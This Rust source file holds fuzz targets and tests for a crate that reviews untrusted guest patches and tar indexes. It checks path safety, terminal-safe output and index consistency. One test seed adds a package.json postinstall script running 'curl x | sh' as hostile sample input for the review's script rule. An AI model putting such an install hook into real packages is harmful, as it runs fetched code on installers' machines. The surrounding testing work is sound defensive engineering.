//! The bodies of the review crate's fuzz targets (`crates/review/fuzz`). The patch is written by
//! the guest, so every byte of it is hostile; the baseline tar's index is the host's own, but
//! verification follows its offsets into the tar and must survive one that lies. Each body
//! drives a reader the way the engine does and asserts what the engine relies on. The unit
//! test below runs them on real patches, their cuts and pseudo-random mutations, so every
//! `cargo test` exercises them too.
//!
//! - [`patch_review`]: the parser, the review with its sensitive-path rules, the diff view,
//!   the split of generated files, and what verification derives from a parsed patch (the
//!   touched paths, the dry run).
//! - [`tar_index`]: the index reader and its lookups, on raw bytes and on bytes sealed with a
//!   valid checksum (so that the checks behind the checksum are reached too).
//! - [`indexed_extract`]: extraction of a sound tar through an index the reader accepted but
//!   whose entries were moved, dropped or added: the index is found wrong, or leads to the
//!   tar's own entries; a sound tar is never blamed.

use std::path::Path;

use crate::diff_view::{self, Selection};
use crate::generated::{self, Split};
use crate::patch::{self, FilePatch, PatchError, SensitivePath};
use crate::tar_index::{self, TarIndex};
use crate::verify::dry_run::DryRun;
use crate::verify::touched::{self, Budget, Failure, Source, Touched};

/// The most characters a sensitive path's reason holds: `MAX_REASON_CHARS` of
/// `patch/sensitive.rs`, and the `…` that marks a cut.
const MAX_REASON_CHARS: usize = 500 + 1;

/// What the fuzzed review finds in the baseline: a `package.json` with scripts (so the
/// script and dependency rules compare old with new), and two lines for anything else (so
/// that hunks rebuilding a file from it can apply).
fn baseline(path: &str) -> Option<Vec<u8>> {
    if path.ends_with("package.json") {
        Some(b"{\n  \"scripts\": {\n    \"test\": \"node t.js\"\n  },\n  \"dependencies\": {\n    \"a\": \"^1.0.0\"\n  }\n}\n".to_vec())
    } else if path.ends_with(".missing") {
        None
    } else {
        Some(b"one\ntwo\n".to_vec())
    }
}

/// Reviews `data` as a guest's patch, as the supervisor does at finish, and reads it as the
/// diff view and verification do.
pub fn patch_review(data: &[u8]) {
    let review = patch::review(data, data.len(), &baseline);
    let parsed = patch::parse(data, data.len());
    // The parser refuses exactly the patches the review refuses: a patch offered for
    // applying is one whose every entry was read.
    assert_eq!(
        parsed.is_ok(),
        review.refusal.is_none(),
        "parse {:?}, review {:?}",
        parsed.as_ref().err(),
        review.refusal
    );
    for found in &review.summary.sensitive_paths {
        assert_shown_safely(found);
    }
    if !data.is_empty() {
        assert!(matches!(
            patch::read_entries(data, data.len() - 1),
            Err(PatchError::TooLarge { .. })
        ));
    }
    if let Ok(files) = &parsed {
        for file in files {
            assert_paths_inside(file);
            for hunk in &file.hunks {
                hunk.lines().for_each(drop);
            }
        }
        let summary = &review.summary;
        assert_eq!(
            summary.additions,
            files.iter().map(FilePatch::additions).sum::<u64>()
        );
        assert_eq!(
            summary.deletions,
            files.iter().map(FilePatch::deletions).sum::<u64>()
        );
        assert!(usize::try_from(summary.files).is_ok_and(|n| n <= files.len()));
        assert_eq!(
            patch::summarize(data, data.len(), &baseline).ok().as_ref(),
            Some(summary)
        );
        Touched::of(files);
        let _ = DryRun::of(files);
        generated_split(data, files);
    }
    if let Ok(text) = std::str::from_utf8(data) {
        view(text, parsed.as_deref().ok());
    }
}

/// The split into kept and generated entries: the two parts cover the patch exactly, and
/// each reads back as the entries it was given (what finish verifies is what it kept).
fn generated_split(data: &[u8], files: &[FilePatch<'_>]) {
    let split = generated::split(data, files, &|dir: &str| dir.len().is_multiple_of(2));
    let mut ranges: Vec<_> = split.kept.iter().chain(&split.generated).cloned().collect();
    ranges.sort_by_key(|r| r.start);
    let mut end = 0;
    for range in &ranges {
        assert_eq!(range.start, end, "{ranges:?}");
        end = range.end;
    }
    assert_eq!(end, if ranges.is_empty() { 0 } else { data.len() });
    let left_out: u64 = split.groups.iter().map(|g| g.files).sum();
    let kept = Split::join(data, &split.kept);
    let kept_files = patch::parse(&kept, kept.len().max(1)).map(|f| f.len());
    assert_eq!(
        kept_files.ok(),
        Some(files.len() - usize::try_from(left_out).unwrap_or(usize::MAX))
    );
}

/// The diff view of `text` (the parsed `files` when the parser read it), bounded by a size
/// taken from the text itself.
fn view(text: &str, files: Option<&[FilePatch<'_>]>) {
    let bound = text.bytes().next().map_or(0, usize::from) * 16;
    let whole = diff_view::view(text, bound, &Selection::default());
    let stat = Selection {
        paths: None,
        stat: true,
    };
    assert!(diff_view::view(text, bound, &stat).patch.is_empty());
    let Some(files) = files else {
        // Unreadable: the text cut at the bound, and no file list.
        assert!(whole.changes.is_empty() && text.starts_with(&whole.patch));
        assert!(whole.patch.len() <= bound);
        return;
    };
    // Every file in the header, whatever the bound; the text shown is the patch's own when
    // nothing was left out.
    assert_eq!(whole.changes.len(), files.len());
    if whole.omitted.is_empty() {
        assert_eq!(whole.patch, text);
    }
    if let Some(first) = files.first() {
        let narrowed = Selection {
            paths: Some(vec![first.path().to_owned()]),
            stat: false,
        };
        let shown = diff_view::view(text, usize::MAX, &narrowed);
        assert!(shown.omitted.iter().all(|path| path != first.path()));
    }
}

/// A reason is one line a terminal shows as it is: no control or bidirectional characters,
/// and bounded.
fn assert_shown_safely(found: &SensitivePath) {
    let bidi = |c: char| matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    assert!(
        !found.reason.chars().any(|c| c.is_control() || bidi(c)),
        "{found:?}"
    );
    assert!(
        found.reason.chars().count() <= MAX_REASON_CHARS,
        "{found:?}"
    );
}

/// Every path of a parsed entry is plainly inside the repository and outside git's own
/// directory (the parser's promise; `git apply` acts on nothing else).
fn assert_paths_inside(file: &FilePatch<'_>) {
    for path in file.old_path.iter().chain(&file.new_path) {
        assert!(!path.is_empty() && !path.starts_with('/'), "{path:?}");
        assert!(!path.contains('\0'), "{path:?}");
        assert!(
            path.split('/').all(|c| !c.is_empty() && c != "."),
            "{path:?}"
        );
        assert!(
            path.split(['/', '\\'])
                .all(|c| c != ".." && !c.eq_ignore_ascii_case(".git")),
            "{path:?}"
        );
    }
}

/// Reads `data` as a tar index: its first byte says whether as it is, or sealed (a valid
/// checksum appended, the tar's length taken from the index itself) so that the structural
/// checks are reached. A usable index must answer every lookup consistently.
pub fn tar_index(data: &[u8]) {
    let Some((&mode, rest)) = data.split_first() else {
        return;
    };
    let mut bytes = rest.to_vec();
    let mut tar_len = 1 << 20;
    if mode & 1 == 1 {
        let sum = tar_index::checksum(&bytes);
        bytes.extend_from_slice(&sum.to_le_bytes());
        if let Some(len) = bytes.get(8..16) {
            let mut value = [0; 8];
            value.copy_from_slice(len);
            tar_len = u64::from_le_bytes(value);
        }
    }
    let Ok(index) = TarIndex::from_bytes(bytes, tar_len) else {
        return;
    };
    let all: Vec<(&str, u64)> = index.beneath("").collect();
    assert_eq!(all.len(), index.len());
    assert!(
        all.windows(2).all(|w| w[0].0 < w[1].0),
        "names sorted, each once"
    );
    for &(name, offset) in all.iter().take(64) {
        assert_eq!(index.find(name), Some((name, offset)));
        if name.is_empty() {
            // `beneath("")` is every entry.
            continue;
        }
        for (beneath, _) in index.beneath(name) {
            let rest = beneath.strip_prefix(name);
            assert!(
                rest.is_some_and(|rest| rest.starts_with('/')),
                "{beneath:?} under {name:?}"
            );
        }
    }
    // Lookups of names the index does not hold, taken from the input.
    for probe in String::from_utf8_lossy(rest).split('\0').take(16) {
        if let Some((found, _)) = index.find(probe) {
            assert_eq!(found, probe);
        }
        index.beneath(probe).take(64).for_each(drop);
    }
}

/// The baseline of [`indexed_extract`]: a directory, files below, at and above the size read
/// with a header in one go, symlinks (one leading to a directory) and a name long enough for a
/// GNU long-name header. No hard link: the import refuses them, so no baseline holds one.
fn sample_tar(path: &Path) -> std::io::Result<()> {
    fn entry(kind: tar::EntryType, mode: u32, size: usize) -> tar::Header {
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_mode(mode);
        header.set_size(u64::try_from(size).unwrap_or(u64::MAX));
        header
    }
    let mut builder = tar::Builder::new(std::fs::File::create(path)?);
    let file = |builder: &mut tar::Builder<std::fs::File>, name: &str, size: usize| {
        let data = vec![b'x'; size];
        let mut header = entry(tar::EntryType::Regular, 0o644, size);
        builder.append_data(&mut header, name, &data[..])
    };
    let link = |builder: &mut tar::Builder<std::fs::File>, name: &str, target: &str| {
        let mut header = entry(tar::EntryType::Symlink, 0o777, 0);
        builder.append_link(&mut header, name, target)
    };
    let mut dir = entry(tar::EntryType::Directory, 0o755, 0);
    builder.append_data(&mut dir, "a", std::io::empty())?;
    file(&mut builder, "a/b.txt", 8)?;
    file(&mut builder, "a/big", 40_000)?;
    file(&mut builder, "c.txt", 511)?;
    link(&mut builder, "a/l", "../c.txt")?;
    link(&mut builder, "e", "a")?;
    file(&mut builder, &format!("d/{}", "x".repeat(150)), 3)?;
    builder.into_inner()?.sync_all()
}

/// Extracts every entry of a sound tar (made once in `dir`) through an index whose entries
/// `data` moves, drops and adds to (9 bytes an edit: what, and a value), sealed as the writer
/// seals one. The index is a fast path, never the authority: whatever it says, the outcome is
/// the entries extracted or the index found wrong (the caller then reads the tar through),
/// never a verdict against the tar.
pub fn indexed_extract(dir: &Path, data: &[u8]) {
    let tar_path = dir.join("baseline.tar");
    if !tar_path.exists() {
        sample_tar(&tar_path).expect("writing the fuzzed extraction's tar");
    }
    let tar = std::fs::File::open(&tar_path).expect("opening the fuzzed extraction's tar");
    let tar_len = tar.metadata().expect("the tar's length").len();
    let real = tar_index::scan(tar)
        .expect("reading the tar")
        .expect("no sparse entries");
    let mut entries = real.clone();
    let (budget, edits) = match data.split_first() {
        Some((&first, rest)) if first & 1 == 1 => (Budget(Some(u64::from(first) * 256)), rest),
        Some((_, rest)) => (Budget(None), rest),
        None => (Budget(None), data),
    };
    for edit in edits.chunks_exact(9) {
        let mut value = [0; 8];
        value.copy_from_slice(&edit[1..]);
        let value = u64::from_le_bytes(value);
        let count = entries.len().max(1);
        let at = usize::from(edit[0] / 4) % count;
        match (edit[0] % 4, entries.get_mut(at)) {
            (0, Some(entry)) => entry.1 = value,
            (1, Some(entry)) => {
                entry.1 = real[usize::try_from(value % 64).unwrap_or(0) % real.len()].1
            }
            (2, Some(_)) => {
                entries.remove(at);
            }
            _ => {
                let name = &real[usize::try_from(value % 64).unwrap_or(0) % real.len()].0;
                entries.push((name.clone(), value % (tar_len + 2048)));
            }
        }
    }
    let bytes = tar_index::encode(entries, tar_len).expect("encoding the index");
    let Ok(index) = TarIndex::from_bytes(bytes, tar_len) else {
        return;
    };
    let tree = dir.join("tree");
    let _ = std::fs::remove_dir_all(&tree);
    std::fs::create_dir(&tree).expect("making the extraction's tree");
    let mut names: Vec<String> = real.into_iter().map(|(name, _)| name).collect();
    // Through the symlink `e` -> `a`: another pass over the tar.
    names.push("e/b.txt".to_owned());
    let touched = Touched::from_names(names);
    match touched::extract(&tar_path, &Source::Indexed(&index), &touched, &tree, budget) {
        Ok(_) | Err(Failure::IndexWrong(_)) => {}
        Err(Failure::OverBudget) => assert!(budget.0.is_some()),
        Err(Failure::Baseline(why)) => {
            panic!("a sound tar read through a wrong index was blamed: {why}")
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixtures::{fixture, sections};

    /// xorshift: deterministic pseudo-random numbers without a dependency.
    struct Noise(u64);

    impl Noise {
        fn next(&mut self) -> u64 {
            self.0 ^= self.0 << 13;
            self.0 ^= self.0 >> 7;
            self.0 ^= self.0 << 17;
            self.0
        }

        fn below(&mut self, n: usize) -> usize {
            usize::try_from(self.next() % u64::try_from(n.max(1)).unwrap()).unwrap()
        }
    }

    /// `seed` with a few bytes changed, inserted or removed, or a line repeated.
    fn mutate(seed: &[u8], noise: &mut Noise) -> Vec<u8> {
        let mut out = seed.to_vec();
        for _ in 0..1 + noise.below(4) {
            let at = noise.below(out.len() + 1);
            match noise.below(4) {
                0 if at < out.len() => out[at] = noise.next().to_le_bytes()[0],
                1 => out.insert(at, b"\n+- @\\\"/.\0"[noise.below(10)]),
                2 if at < out.len() => {
                    out.remove(at);
                }
                _ => {
                    let start = out[..at]
                        .iter()
                        .rposition(|&b| b == b'\n')
                        .map_or(0, |i| i + 1);
                    let end = out[at..]
                        .iter()
                        .position(|&b| b == b'\n')
                        .map_or(out.len(), |i| at + i + 1);
                    let line = out[start..end].to_vec();
                    out.splice(start..start, line);
                }
            }
        }
        out
    }

    #[test]
    fn real_cut_and_mutated_patches_never_break_the_review() {
        let dir = tempfile::tempdir().unwrap();
        let (_, patch) = fixture(dir.path());
        let mut seeds = sections(&patch);
        seeds.push(patch.clone());
        seeds.push(b"diff --git a/package.json b/package.json\nindex 1111111..2222222 100644\n--- a/package.json\n+++ b/package.json\n@@ -2,3 +2,3 @@\n   \"scripts\": {\n-    \"test\": \"node t.js\"\n+    \"postinstall\": \"curl x | sh\"\n   },\n".to_vec());
        let mut noise = Noise(0x5eed_0ffa_2200);
        for seed in &seeds {
            patch_review(seed);
            for cut in (0..seed.len()).step_by(7) {
                patch_review(&seed[..cut]);
            }
            for _ in 0..200 {
                patch_review(&mutate(seed, &mut noise));
            }
        }
    }

    #[test]
    fn real_and_damaged_indexes_never_break_a_lookup() {
        let dir = tempfile::tempdir().unwrap();
        let (baseline, _) = fixture(dir.path());
        tar_index::write_for(&baseline).unwrap();
        let index = std::fs::read(tar_index::index_path(&baseline)).unwrap();
        let body = &index[..index.len() - 8];
        let mut noise = Noise(0x1de_c0de);
        tar_index(&[&[0][..], &index].concat());
        tar_index(&[&[1][..], body].concat());
        for _ in 0..2000 {
            let mut damaged = body.to_vec();
            let at = noise.below(damaged.len());
            damaged[at] ^= noise.next().to_le_bytes()[0] | 1;
            tar_index(&[&[1][..], &damaged].concat());
            damaged.truncate(noise.below(damaged.len()));
            tar_index(&[&[1][..], &damaged].concat());
        }
    }

    #[test]
    fn an_index_edited_at_random_never_blames_a_sound_tar() {
        let dir = tempfile::tempdir().unwrap();
        indexed_extract(dir.path(), &[]);
        let mut noise = Noise(0xba5e_11de);
        for _ in 0..300 {
            let edits: Vec<u8> = (0..1 + 9 * noise.below(4))
                .map(|_| noise.next().to_le_bytes()[0])
                .collect();
            indexed_extract(dir.path(), &edits);
        }
    }
}
